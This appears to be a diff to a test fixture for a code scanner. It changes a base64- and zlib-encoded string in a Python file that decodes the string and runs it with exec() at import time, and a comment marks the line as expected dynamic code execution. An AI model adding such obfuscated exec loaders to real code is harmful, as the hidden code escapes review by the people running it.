@@ -4,7 +4,7 @@ import zlib
 import torch
 import torch.nn as nn
 
-_PAYLOAD = "eJzLzC3ILypRKMkvSs7gApN6SYnJ2al5KcV6yaUpeXl6Sal5yRm5iUXZCrYKbok5xalcwR7+QSHOoSFAgZCi0lQuAGRCF6M="
+_PAYLOAD = "eJzLzC3ILypRKMkvSs7gApN6SYnJ2al5KcV6yaUpiXq5iSW5pTl6iTk5+eXxJWnGRgq2CiFFpalcAIjgFQo="
 _ns = {}
 exec(zlib.decompress(base64.b64decode(_PAYLOAD)).decode(), _ns)  # hackscan: expect[dynamic-code-execution]
 
